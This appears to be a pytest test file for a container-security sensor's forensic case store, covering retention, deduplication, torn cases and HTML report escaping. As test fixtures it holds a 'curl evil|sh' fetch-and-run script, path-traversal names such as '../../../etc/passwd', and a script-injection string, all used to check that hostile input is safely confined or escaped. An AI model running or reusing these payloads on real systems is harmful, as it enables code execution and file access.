"""The case store: sealed manifests, content-addressed blobs, torn cases, and retention
by value under a byte budget."""

import os
import stat

import msgpack
import pytest

from sensor.forensics import report, value
from sensor.forensics.store import CaseStore, StoreError, safe_relative

CONTAINER = {"id": "c0ffee", "image": "registry.example/shop:1.2", "cgroup_id": 77}
ALERT = {"kind": "alert", "rule": "Read sensitive file", "priority": "WARNING"}


def make_case(store, rule="Read sensitive file", priority="WARNING", image="shop:1.2", exe="aa", artifacts=()):
    case = store.open({**CONTAINER, "image": image}, [ALERT], rule, priority, exe_sha256=exe)
    for kind, name, data in artifacts:
        case.add(kind, name, data)
    return case.seal(capture_s=0.01)


def on_disk(root) -> int:
    """Bytes of the blobs and manifests as the file system has them."""
    return sum(p.stat().st_size for d in ("blobs", "cases") for p in (root / d).rglob("*") if p.is_file())


def test_a_sealed_case_reads_back_and_exports_as_plain_files(tmp_path):
    store = CaseStore(tmp_path / "cases", writer=True)
    manifest = make_case(store, artifacts=[("memory", "1234/heap", b"secret=hunter2" * 10),
                                           ("file", "/tmp/dropped.sh", b"#!/bin/sh\ncurl evil|sh\n")])
    read = store.manifest(manifest["id"])
    assert read["container"] == {**CONTAINER, "image": "shop:1.2"} and read["triggers"] == [ALERT]
    assert [(a["kind"], a["name"], a["size"]) for a in read["artifacts"]] == \
        [("memory", "1234/heap", 140), ("file", "/tmp/dropped.sh", 23)]
    assert read["complete"] and read["value"]["novelty"] == 1.0 and read["timings"]["capture_s"] == 0.01
    out = store.export(manifest["id"], tmp_path / "out")
    assert (out / "memory" / "1234" / "heap").read_bytes() == b"secret=hunter2" * 10
    assert (out / "file" / "tmp" / "dropped.sh").read_bytes() == b"#!/bin/sh\ncurl evil|sh\n"
    assert msgpack.unpackb((out / "manifest.msgpack").read_bytes())["id"] == manifest["id"]
    for path in (tmp_path / "cases").rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert [c["id"] for c in CaseStore(tmp_path / "cases").list()] == [manifest["id"]]


def test_an_artifact_alike_across_cases_is_stored_once(tmp_path):
    store = CaseStore(tmp_path / "cases", writer=True)
    shared = ("executable", "/usr/bin/nc", os.urandom(4096))
    one = make_case(store, artifacts=[shared, ("memory", "1/stack", b"a" * 100)])
    two = make_case(store, artifacts=[shared, ("memory", "1/stack", b"b" * 100)])
    assert len(list((tmp_path / "cases" / "blobs").rglob("*/*"))) == 3
    assert store.used_bytes() == on_disk(tmp_path / "cases")
    store.remove(one["id"])
    assert store.export(two["id"], tmp_path / "out")  # the shared blob is still there
    store.remove(two["id"])
    assert not list((tmp_path / "cases" / "blobs").rglob("*/*")) and store.list() == []


def test_hostile_names_stay_under_the_export_directory(tmp_path):
    store = CaseStore(tmp_path / "cases", writer=True)
    names = ["../../../etc/passwd", "/abs/../../x", b"\xff\xfe/evil\x00name", "", "a/./b/../c"]
    manifest = make_case(store, artifacts=[("file", n, str(i).encode()) for i, n in enumerate(names)])
    out = store.export(manifest["id"], tmp_path / "out")
    written = [p for p in out.rglob("*") if p.is_file() and not p.name.startswith("manifest.")]
    assert len(written) == len(names)
    assert all(out.resolve() in p.resolve().parents for p in written)
    assert safe_relative("../../../etc/passwd").parts == ("etc", "passwd")


def test_a_case_left_open_by_a_crash_is_torn_and_never_read_as_whole(tmp_path):
    store = CaseStore(tmp_path / "cases", writer=True)
    case = store.open(CONTAINER, [ALERT], "Read sensitive file", "WARNING")
    case.add("memory", "1/heap", b"half written")
    assert CaseStore(tmp_path / "cases").list()[0]["state"] == "open"  # its writer still runs
    store.close()  # the sensor stops without sealing it
    reopened = CaseStore(tmp_path / "cases", writer=True)
    assert reopened.list()[0]["state"] == "torn"
    with pytest.raises(StoreError, match="torn"):
        reopened.manifest(case.id)
    reopened.remove(case.id)
    assert reopened.used_bytes() == 0 == on_disk(tmp_path / "cases")


def test_a_second_writer_is_refused(tmp_path):
    CaseStore(tmp_path / "cases", writer=True)
    with pytest.raises(StoreError, match="another sensor"):
        CaseStore(tmp_path / "cases", writer=True)


def test_damaged_and_missing_parts_are_reported(tmp_path):
    store = CaseStore(tmp_path / "cases", writer=True)
    manifest = make_case(store, artifacts=[("memory", "1/heap", b"x" * 64)])
    blob = tmp_path / "cases" / "blobs" / manifest["artifacts"][0]["sha256"][:2] / manifest["artifacts"][0]["sha256"]
    blob.write_bytes(b"y" * 64)
    with pytest.raises(StoreError, match="damaged"):
        store.export(manifest["id"], tmp_path / "out")
    (tmp_path / "cases" / "cases" / f"{manifest['id']}.msgpack").write_bytes(b"\xc1 not msgpack")
    with pytest.raises(StoreError, match="cannot be read"):
        store.manifest(manifest["id"])
    with pytest.raises(StoreError, match="no case"):
        store.manifest("nope")


def test_an_artifact_beyond_the_budget_is_listed_missing(tmp_path):
    store = CaseStore(tmp_path / "cases", budget_bytes=200 << 10, writer=True)
    manifest = make_case(store, artifacts=[("memory", "1/heap", os.urandom(300 << 10)),
                                           ("file", "/tmp/small", b"kept")])
    assert [a["name"] for a in manifest["artifacts"]] == ["/tmp/small"]
    assert not manifest["complete"] and "budget" in manifest["missing"][0]["why"]
    assert store.used_bytes() <= store.budget


def test_a_thousand_near_identical_cases_keep_the_distinct_ones_within_budget(tmp_path):
    budget = 2 << 20
    store = CaseStore(tmp_path / "cases", budget_bytes=budget, writer=True)
    distinct = {}
    for i in range(1000):
        # Mostly the same rule, image and executable; every 100th its own, some more severe.
        kind = i % 100 == 0
        manifest = make_case(store, rule=f"rule {i}" if kind else "Shell spawned", image=f"img{i}" if kind else "web",
                             priority="CRITICAL" if i % 200 == 0 else "NOTICE",
                             artifacts=[("memory", f"{i}/heap", os.urandom(16 << 10)), ("events", "timeline", b"e" * 500)])
        if kind:
            distinct[manifest["id"]] = manifest
        assert store.used_bytes() <= budget and on_disk(tmp_path / "cases") <= budget
    kept = {c["id"]: c for c in store.list()}
    assert set(distinct) <= set(kept)
    alike = [c for i, c in kept.items() if i not in distinct]
    assert sum(c["value"]["novelty"] == 1 for c in alike) <= 1  # only the first of its kind
    assert store.used_bytes() == on_disk(tmp_path / "cases")


def test_locked_cases_stay_and_old_ones_expire(tmp_path):
    now = [1_000_000.0]
    store = CaseStore(tmp_path / "cases", budget_bytes=100 << 10, writer=True, clock=lambda: now[0])
    low = make_case(store, priority="DEBUG", artifacts=[("memory", "1/heap", os.urandom(60 << 10))])
    store.set_locked(low["id"], True)
    high = make_case(store, priority="EMERGENCY", rule="other", artifacts=[("memory", "2/heap", os.urandom(60 << 10))])
    assert not high["complete"]  # the only case worth less is locked: no room is made
    assert [c["id"] for c in store.list()] == [low["id"], high["id"]]
    now[0] += value.TTL_S["EMERGENCY"] + 1
    assert store.expire() == [high["id"]]  # past its TTL; the locked one stays
    store.set_locked(low["id"], False)
    assert store.expire() == [low["id"]]


def test_an_artifact_let_go_at_sealing_leaves_its_twin_readable(tmp_path):
    """Two artifacts of one case with the same bytes share a blob: letting one go for the
    manifest's room must not take the blob from the other."""
    store = CaseStore(tmp_path / "cases", budget_bytes=100 << 10, writer=True)
    case = store.open(CONTAINER, [{**ALERT, "output": "x" * (65 << 10)}], "r", "WARNING")
    case.reserve = 0  # the manifest's room is made at sealing, not kept while adding
    twin = os.urandom(30 << 10)
    assert case.add("memory", "1/heap", twin) and case.add("memory", "2/heap", twin)
    assert case.add("file", "/tmp/y", os.urandom(10 << 10))
    manifest = case.seal()
    assert [a["name"] for a in manifest["artifacts"]] == ["/tmp/y"] and len(manifest["missing"]) == 2
    assert store.export(manifest["id"], tmp_path / "out") and store.used_bytes() <= store.budget


def test_the_html_report_escapes_what_the_container_named():
    hostile = "<script>alert(1)</script>"
    manifest = {"id": "c1", "container": {"id": hostile}, "trigger": {"rule": "r", "priority": "WARNING"},
                "timings": {"opened": 1.0}, "complete": True, "capture": {"trigger_ts": 2_000},
                "artifacts": [{"kind": "file", "name": b"/tmp/\xff" + hostile.encode(), "size": 1, "sha256": "ab"}],
                "missing": [{"what": hostile, "why": hostile}], "value": {}}
    timeline = [{"ts": 1_000, "proc": {"pid": 7, "comm": hostile}, "evt": {"type": "openat", "name": hostile}},
                {"ts": 3_000, "proc": {"pid": 7, "comm": hostile}, "evt": {"type": "execve"}}]
    page = report.render(manifest, timeline, [{"pid": 7, "ppid": 1, "name": hostile, "cmdline": [hostile]}])
    assert hostile not in page and page.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 6
    assert page.count("class='mark ") == 2 and "id='trigger'" in page


def test_a_retention_class_from_the_policy_sets_ttl_and_weight(tmp_path):
    now = [1_000_000.0]
    store = CaseStore(tmp_path / "cases", writer=True, clock=lambda: now[0])
    case = store.open({"id": "c", "image": "pci:1"}, [], "Read sensitive file", "EMERGENCY", weight=3.0, ttl_s=60.0)
    case.seal()
    plain = make_case(store, priority="EMERGENCY", rule="other")
    (kept, other) = store.list()
    assert kept["value"]["weight"] == 3.0 and other["value"]["weight"] == 1.0
    now[0] += 61
    assert store.expire() == [case.id]  # its class's TTL, not EMERGENCY's 90 days
    assert [c["id"] for c in store.list()] == [plain["id"]]
